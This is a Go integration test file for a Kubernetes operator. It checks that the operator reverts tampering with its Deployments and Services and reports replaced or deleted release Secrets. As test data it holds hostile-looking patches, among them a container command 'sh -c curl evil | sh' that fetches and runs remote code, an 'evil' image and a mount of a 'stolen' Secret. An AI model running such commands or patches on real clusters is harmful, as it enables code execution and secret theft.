package hostile

import (
	"testing"
	"time"

	. "github.com/onsi/gomega"
	appsv1 "k8s.io/api/apps/v1"
	autoscalingv1 "k8s.io/api/autoscaling/v1"
	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/types"
	appsv1ac "k8s.io/client-go/applyconfigurations/apps/v1"
	corev1ac "k8s.io/client-go/applyconfigurations/core/v1"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	tfv1 "github.com/twelvefactor/twelvefactor-operator/api/v1alpha1"
	"github.com/twelvefactor/twelvefactor-operator/internal/release"
)

// TestTamperingIsReverted: other field managers (kubectl scale, edit, set,
// a controller that patches pod templates, server-side apply with force)
// change what the operator owns, and people delete or replace its release
// Secrets. The operator puts back its values, removes what others added
// under spec, and never rolls out from a Secret it did not write. It leaves
// kubectl rollout restart and an HPA's replicas alone.
func TestTamperingIsReverted(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name string
		fn   func(t *testing.T)
	}{
		{"ScaleOfAFixedProcessIsReverted", testScaleOfAFixedProcessIsReverted},
		{"PrivilegeEscalationIsReverted", testPrivilegeEscalationIsReverted},
		{"WritableRootFilesystemAppliedWithForceIsReverted", testWritableRootFilesystemIsReverted},
		{"ServiceAccountTokenMountIsReverted", testServiceAccountTokenMountIsReverted},
		{"ImageChangeIsReverted", testImageChangeIsReverted},
		{"CommandChangeIsReverted", testCommandChangeIsReverted},
		{"AddedEnvVarIsRemoved", testAddedEnvVarIsRemoved},
		{"AddedServiceSelectorKeyIsRemoved", testAddedServiceSelectorKeyIsRemoved},
		{"AddedVolumeIsRemoved", testAddedVolumeIsRemoved},
		{"RolloutRestartIsLeftAlone", testRolloutRestartIsLeftAlone},
		{"HPAReplicasAreLeftAlone", testHPAReplicasAreLeftAlone},
		{"DeletedEnvSecretOfTheLatestReleaseIsRemade", testDeletedEnvSecretIsRemade},
		{"ReplacedEnvSecretIsReportedAndNotRolledOut", testReplacedEnvSecretIsReported},
		{"MutableBindingSecretWithTheSameDataIsReported", testMutableBindingSecretIsReported},
		{"DeletedSecretOfAPinnedReleaseIsReported", testDeletedSecretOfAPinnedReleaseIsReported},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			c.fn(t)
		})
	}
}

// deployed makes a namespace with app shop Ready at release 1.
func deployed(t *testing.T) string {
	t.Helper()
	ns := newNamespace(t)
	create(t, newApp(ns, "shop"))
	waitReady(t, ns, "shop", 1)
	return ns
}

// expectReverted waits until the web Deployment's pod template, and every
// web pod, pass ok, two Ready pods of release 1 serve, and the app is Ready.
func expectReverted(t *testing.T, ns string, ok func(g Gomega, spec corev1.PodSpec)) {
	t.Helper()
	NewWithT(t).Eventually(func(g Gomega) {
		d := deployment(g, ns, "shop-web")
		ok(g, d.Spec.Template.Spec)
		expectServing(g, ns, "shop", "web", 1, 2)
		for _, p := range appPods(g, ns, "shop", map[string]string{tfv1.LabelProcess: "web"}) {
			ok(g, p.Spec)
		}
	}, timeout, 250*time.Millisecond).Should(Succeed())
	waitReady(t, ns, "shop", 1)
}

func strategicPatch(t *testing.T, obj client.Object, owner, patch string) {
	t.Helper()
	NewWithT(t).Expect(cluster.Client.Patch(ctx(), obj, client.RawPatch(types.StrategicMergePatchType, []byte(patch)),
		client.FieldOwner(owner))).To(Succeed())
}

func webDeployment(ns string) *appsv1.Deployment {
	d := &appsv1.Deployment{}
	d.Namespace, d.Name = ns, "shop-web"
	return d
}

func testScaleOfAFixedProcessIsReverted(t *testing.T) {
	g := NewWithT(t)
	ns := deployed(t)
	gen := deployment(g, ns, "shop-web").Generation
	scale := &autoscalingv1.Scale{Spec: autoscalingv1.ScaleSpec{Replicas: 5}}
	g.Expect(cluster.Client.SubResource("scale").Update(ctx(), webDeployment(ns),
		client.WithSubResourceBody(scale), client.FieldOwner(kubectlScale))).To(Succeed())
	// Two writes: the scale to 5, and the operator's back to 2.
	g.Eventually(func(g Gomega) {
		d := deployment(g, ns, "shop-web")
		g.Expect(d.Generation).To(BeNumerically(">=", gen+2))
		g.Expect(*d.Spec.Replicas).To(Equal(int32(2)))
	}, timeout, 100*time.Millisecond).Should(Succeed())
	expectReverted(t, ns, func(Gomega, corev1.PodSpec) {})
	g.Expect(*deployment(g, ns, "shop-web").Spec.Replicas).To(Equal(int32(2)))
}

func testPrivilegeEscalationIsReverted(t *testing.T) {
	ns := deployed(t)
	strategicPatch(t, webDeployment(ns), kubectlEdit,
		`{"spec":{"template":{"spec":{"containers":[{"name":"web","securityContext":{"allowPrivilegeEscalation":true}}]}}}}`)
	expectReverted(t, ns, func(g Gomega, s corev1.PodSpec) {
		g.Expect(s.Containers[0].SecurityContext.AllowPrivilegeEscalation).To(Equal(ptr.To(false)))
	})
}

func testWritableRootFilesystemIsReverted(t *testing.T) {
	g := NewWithT(t)
	ns := deployed(t)
	ac := appsv1ac.Deployment("shop-web", ns).WithSpec(appsv1ac.DeploymentSpec().WithTemplate(
		corev1ac.PodTemplateSpec().WithSpec(corev1ac.PodSpec().WithContainers(corev1ac.Container().WithName("web").
			WithSecurityContext(corev1ac.SecurityContext().WithReadOnlyRootFilesystem(false))))))
	g.Expect(cluster.Client.Apply(ctx(), ac, client.FieldOwner(intruder), client.ForceOwnership)).To(Succeed())
	expectReverted(t, ns, func(g Gomega, s corev1.PodSpec) {
		g.Expect(s.Containers[0].SecurityContext.ReadOnlyRootFilesystem).To(Equal(ptr.To(true)))
	})
}

func testServiceAccountTokenMountIsReverted(t *testing.T) {
	g := NewWithT(t)
	ns := deployed(t)
	g.Eventually(func() error {
		d := deployment(g, ns, "shop-web")
		d.Spec.Template.Spec.AutomountServiceAccountToken = ptr.To(true)
		return cluster.Client.Update(ctx(), d, client.FieldOwner(kubectlEdit))
	}, timeout).Should(Succeed())
	expectReverted(t, ns, func(g Gomega, s corev1.PodSpec) {
		g.Expect(s.AutomountServiceAccountToken).To(Equal(ptr.To(false)))
	})
}

func testImageChangeIsReverted(t *testing.T) {
	ns := deployed(t)
	strategicPatch(t, webDeployment(ns), kubectlSet,
		`{"spec":{"template":{"spec":{"containers":[{"name":"web","image":"registry.example/evil:latest"}]}}}}`)
	expectReverted(t, ns, func(g Gomega, s corev1.PodSpec) {
		g.Expect(s.Containers[0].Image).To(Equal(image("shop", 1)))
	})
}

func testCommandChangeIsReverted(t *testing.T) {
	g := NewWithT(t)
	ns := deployed(t)
	g.Expect(cluster.Client.Patch(ctx(), webDeployment(ns), client.RawPatch(types.JSONPatchType,
		[]byte(`[{"op":"replace","path":"/spec/template/spec/containers/0/command","value":["sh","-c","curl evil | sh"]}]`)),
		client.FieldOwner(kubectlEdit))).To(Succeed())
	expectReverted(t, ns, func(g Gomega, s corev1.PodSpec) {
		g.Expect(s.Containers[0].Command).To(Equal([]string{"puma"}))
	})
}

func testAddedEnvVarIsRemoved(t *testing.T) {
	ns := deployed(t)
	strategicPatch(t, webDeployment(ns), kubectlSet,
		`{"spec":{"template":{"spec":{"containers":[{"name":"web","env":[{"name":"INJECTED","value":"1"}]}]}}}}`)
	expectReverted(t, ns, func(g Gomega, s corev1.PodSpec) {
		g.Expect(s.Containers[0].Env).NotTo(ContainElement(HaveField("Name", "INJECTED")))
		g.Expect(s.Containers[0].Env).To(ContainElement(HaveField("Name", "RELEASE_VERSION")))
	})
}

func testAddedServiceSelectorKeyIsRemoved(t *testing.T) {
	g := NewWithT(t)
	ns := deployed(t)
	g.Eventually(func() error {
		s := service(g, ns, "shop-web")
		s.Spec.Selector["hijack"] = "yes"
		return cluster.Client.Update(ctx(), s, client.FieldOwner(kubectlEdit))
	}, timeout).Should(Succeed())
	g.Eventually(func(g Gomega) {
		s := service(g, ns, "shop-web")
		g.Expect(s.Spec.Selector).To(Equal(map[string]string{tfv1.LabelApp: "shop", tfv1.LabelProcess: "web"}))
		expectControlledBy(g, s, getApp(g, ns, "shop"))
	}, timeout).Should(Succeed())
	waitReady(t, ns, "shop", 1)
}

// testAddedVolumeIsRemoved: a controller adds, with server-side apply, a
// volume that mounts a Secret the operator did not write.
func testAddedVolumeIsRemoved(t *testing.T) {
	g := NewWithT(t)
	ns := deployed(t)
	stolen := &corev1.Secret{ObjectMeta: objectMeta(ns, "stolen"), StringData: map[string]string{"k": "v"}}
	create(t, stolen)
	held := freeze(t, stolen)
	ac := appsv1ac.Deployment("shop-web", ns).WithSpec(appsv1ac.DeploymentSpec().WithTemplate(
		corev1ac.PodTemplateSpec().WithSpec(corev1ac.PodSpec().WithVolumes(corev1ac.Volume().WithName("injected").
			WithSecret(corev1ac.SecretVolumeSource().WithSecretName("stolen"))))))
	g.Expect(cluster.Client.Apply(ctx(), ac, client.FieldOwner("sidecar-injector"))).To(Succeed())
	g.Expect(secretsOf(deployment(g, ns, "shop-web").Spec.Template.Spec)).To(ContainElement("stolen"), "the write took")
	expectReverted(t, ns, func(g Gomega, s corev1.PodSpec) {
		g.Expect(s.Volumes).NotTo(ContainElement(HaveField("Name", "injected")))
	})
	held.expectUntouched(g)
}

// testRolloutRestartIsLeftAlone: kubectl rollout restart's annotation stays,
// also through the next release's rollout.
func testRolloutRestartIsLeftAlone(t *testing.T) {
	g := NewWithT(t)
	ns := deployed(t)
	const key = "kubectl.kubernetes.io/restartedAt"
	strategicPatch(t, webDeployment(ns), "kubectl-rollout",
		`{"spec":{"template":{"metadata":{"annotations":{"`+key+`":"2026-12-05T00:00:00Z"}}}}}`)
	restarted := func(g Gomega, n int32) {
		d := deployment(g, ns, "shop-web")
		g.Expect(d.Spec.Template.Annotations).To(HaveKeyWithValue(key, "2026-12-05T00:00:00Z"))
		expectServing(g, ns, "shop", "web", n, 2)
		for _, p := range appPods(g, ns, "shop", map[string]string{tfv1.LabelProcess: "web"}) {
			g.Expect(p.Annotations).To(HaveKeyWithValue(key, "2026-12-05T00:00:00Z"))
		}
	}
	g.Eventually(func(g Gomega) { restarted(g, 1) }, timeout).Should(Succeed())
	waitReady(t, ns, "shop", 1)
	g.Consistently(func(g Gomega) { restarted(g, 1) }, 3*time.Second, 250*time.Millisecond).Should(Succeed())

	update(t, ns, "shop", func(a *tfv1.TwelveFactorApp) { a.Spec.Config.Env[0].Value = "debug" })
	waitReady(t, ns, "shop", 2)
	g.Eventually(func(g Gomega) { restarted(g, 2) }, timeout).Should(Succeed())
}

// testHPAReplicasAreLeftAlone: replicas set through /scale on an autoscaled
// process stay, also through the next release's rollout.
func testHPAReplicasAreLeftAlone(t *testing.T) {
	g := NewWithT(t)
	ns := newNamespace(t)
	app := newApp(ns, "shop")
	app.Spec.Processes = append(app.Spec.Processes, tfv1.ProcessSpec{Name: "api", Command: []string{"api"},
		Autoscaling: &tfv1.AutoscalingSpec{MinReplicas: ptr.To[int32](1), MaxReplicas: 5}})
	create(t, app)
	waitReady(t, ns, "shop", 1)
	d := &appsv1.Deployment{}
	d.Namespace, d.Name = ns, "shop-api"
	g.Expect(cluster.Client.SubResource("scale").Update(ctx(), d, client.WithSubResourceBody(
		&autoscalingv1.Scale{Spec: autoscalingv1.ScaleSpec{Replicas: 3}}), client.FieldOwner("horizontal-pod-autoscaler"))).To(Succeed())
	g.Eventually(func(g Gomega) { expectServing(g, ns, "shop", "api", 1, 3) }, timeout).Should(Succeed())
	waitReady(t, ns, "shop", 1)
	update(t, ns, "shop", func(a *tfv1.TwelveFactorApp) { a.Spec.Config.Env[0].Value = "debug" })
	waitReady(t, ns, "shop", 2)
	g.Eventually(func(g Gomega) { expectServing(g, ns, "shop", "api", 2, 3) }, timeout).Should(Succeed())
	g.Consistently(func(g Gomega) {
		g.Expect(*deployment(g, ns, "shop-api").Spec.Replicas).To(Equal(int32(3)))
	}, 3*time.Second, 250*time.Millisecond).Should(Succeed())
}

// testDeletedEnvSecretIsRemade: the latest release's env Secret deleted by
// hand is made again, immutable and with the data the release recorded.
func testDeletedEnvSecretIsRemade(t *testing.T) {
	g := NewWithT(t)
	ns := deployed(t)
	old := secret(g, ns, "shop-v1-env")
	g.Expect(cluster.Client.Delete(ctx(), old)).To(Succeed())
	g.Eventually(func(g Gomega) {
		s := secret(g, ns, "shop-v1-env")
		g.Expect(s.UID).NotTo(Equal(old.UID))
		expectControlledBy(g, s, getRelease(g, ns, "shop-v1"))
		g.Expect(s.Immutable).To(Equal(ptr.To(true)))
		g.Expect(release.DataHash(s.Data)).To(Equal(getRelease(g, ns, "shop-v1").Spec.EnvSecretHash))
	}, timeout).Should(Succeed())
	waitReady(t, ns, "shop", 1)
	g.Expect(releaseNumbers(g, ns, "shop")).To(ConsistOf(int32(1)))
	g.Eventually(func(g Gomega) { expectServing(g, ns, "shop", "web", 1, 2) }, timeout).Should(Succeed())
}

// replaceSecret deletes a release Secret and creates one under its name with
// its labels, annotations (the data hash too), owner references, type and
// immutability, changed by mutate. When the operator makes the Secret again
// in between, it tries again.
func replaceSecret(t *testing.T, ns, name string, mutate func(*corev1.Secret)) *corev1.Secret {
	t.Helper()
	var repl *corev1.Secret
	NewWithT(t).Eventually(func(g Gomega) {
		old := secret(g, ns, name)
		repl = &corev1.Secret{ObjectMeta: objectMeta(ns, name), Type: old.Type, Immutable: old.Immutable, Data: map[string][]byte{}}
		repl.Labels, repl.Annotations, repl.OwnerReferences = old.Labels, old.Annotations, old.OwnerReferences
		for k, v := range old.Data {
			repl.Data[k] = v
		}
		mutate(repl)
		g.Expect(cluster.Client.Delete(ctx(), old, client.Preconditions{UID: &old.UID})).To(Succeed())
		g.Expect(cluster.Client.Create(ctx(), repl)).To(Succeed())
	}, timeout).Should(Succeed())
	return repl
}

// testReplacedEnvSecretIsReported: release 1's env Secret is replaced with
// other data, as the operator would label, annotate and own it. The app
// reports it; a change of the formation rolls nothing out from it, and no
// pod of release 1 is started; once the replacement goes, the operator makes
// the Secret again and the change rolls out.
func testReplacedEnvSecretIsReported(t *testing.T) {
	g := NewWithT(t)
	ns := deployed(t)
	before := podUIDs(g, ns, map[string]string{tfv1.LabelApp: "shop", tfv1.LabelRelease: "1"})
	repl := replaceSecret(t, ns, "shop-v1-env", func(s *corev1.Secret) { s.Data["LOG_LEVEL"] = []byte("evil") })
	held := freeze(t, repl)

	update(t, ns, "shop", func(a *tfv1.TwelveFactorApp) { a.Spec.Processes[0].Replicas = ptr.To[int32](3) })
	app := waitStalled(t, ns, "shop", tfv1.ReasonReleaseSecretAltered)
	g.Expect(message(app, tfv1.ConditionReady)).To(ContainSubstring(`Secret "shop-v1-env" of release v1 does not hold the data the release recorded`))
	g.Consistently(func(g Gomega) {
		g.Expect(podUIDs(g, ns, map[string]string{tfv1.LabelApp: "shop", tfv1.LabelRelease: "1"})).To(Equal(before))
		g.Expect(*deployment(g, ns, "shop-web").Spec.Replicas).To(Equal(int32(2)))
	}, 3*time.Second, 250*time.Millisecond).Should(Succeed())
	held.expectUntouched(g)
	g.Expect(releaseNumbers(g, ns, "shop")).To(ConsistOf(int32(1)))

	g.Expect(cluster.Client.Delete(ctx(), repl)).To(Succeed())
	waitReady(t, ns, "shop", 1)
	g.Eventually(func(g Gomega) { expectServing(g, ns, "shop", "web", 1, 3) }, timeout).Should(Succeed())
}

// testMutableBindingSecretIsReported: a binding Secret replaced by one with
// the same data that is not immutable (so it could be edited later).
func testMutableBindingSecretIsReported(t *testing.T) {
	g := NewWithT(t)
	ns := newNamespace(t)
	create(t, dbSecret(ns), withBinding(newApp(ns, "shop"), "db"))
	waitReady(t, ns, "shop", 1)
	before := podUIDs(g, ns, map[string]string{tfv1.LabelApp: "shop", tfv1.LabelRelease: "1"})
	repl := replaceSecret(t, ns, "shop-v1-binding-db", func(s *corev1.Secret) { s.Immutable = nil })
	held := freeze(t, repl)
	update(t, ns, "shop", func(a *tfv1.TwelveFactorApp) { a.Spec.Processes[0].Replicas = ptr.To[int32](3) })
	app := waitStalled(t, ns, "shop", tfv1.ReasonReleaseSecretAltered)
	g.Expect(message(app, tfv1.ConditionReady)).To(ContainSubstring(`Secret "shop-v1-binding-db" of release v1 is not immutable`))
	g.Consistently(func(g Gomega) {
		g.Expect(podUIDs(g, ns, map[string]string{tfv1.LabelApp: "shop", tfv1.LabelRelease: "1"})).To(Equal(before))
	}, 3*time.Second, 250*time.Millisecond).Should(Succeed())
	held.expectUntouched(g)
}

// testDeletedSecretOfAPinnedReleaseIsReported: release 1's env Secret is
// deleted after release 2 rolled out; pinning release 1 cannot remake it
// (the spec is release 2's), so nothing rolls back, and release 2 keeps
// running, still protected as in use.
func testDeletedSecretOfAPinnedReleaseIsReported(t *testing.T) {
	g := NewWithT(t)
	ns := deployed(t)
	update(t, ns, "shop", func(a *tfv1.TwelveFactorApp) { a.Spec.Config.Env[0].Value = "debug" })
	waitReady(t, ns, "shop", 2)
	g.Eventually(func(g Gomega) { expectServing(g, ns, "shop", "web", 2, 2) }, timeout).Should(Succeed())
	g.Expect(cluster.Client.Delete(ctx(), secret(g, ns, "shop-v1-env"))).To(Succeed())
	before := podUIDs(g, ns, map[string]string{tfv1.LabelApp: "shop", tfv1.LabelRelease: "1"})

	update(t, ns, "shop", func(a *tfv1.TwelveFactorApp) { a.Spec.RollbackTo = ptr.To[int32](1) })
	app := waitStalled(t, ns, "shop", tfv1.ReasonReleaseSecretMissing)
	g.Expect(message(app, tfv1.ConditionReady)).To(ContainSubstring(`Secret "shop-v1-env" of release v1 is gone`))
	g.Consistently(func(g Gomega) {
		g.Expect(podUIDs(g, ns, map[string]string{tfv1.LabelApp: "shop", tfv1.LabelRelease: "1"})).To(Equal(before))
		expectServing(g, ns, "shop", "web", 2, 2)
		expectServing(g, ns, "shop", "worker", 2, 1)
	}, 3*time.Second, 250*time.Millisecond).Should(Succeed())
	expectGone(g, &corev1.Secret{ObjectMeta: objectMeta(ns, "shop-v1-env")})
	g.Expect(getRelease(g, ns, "shop-v2").Labels).To(HaveKeyWithValue(tfv1.LabelInUse, "true"), "release 2 still runs")
}
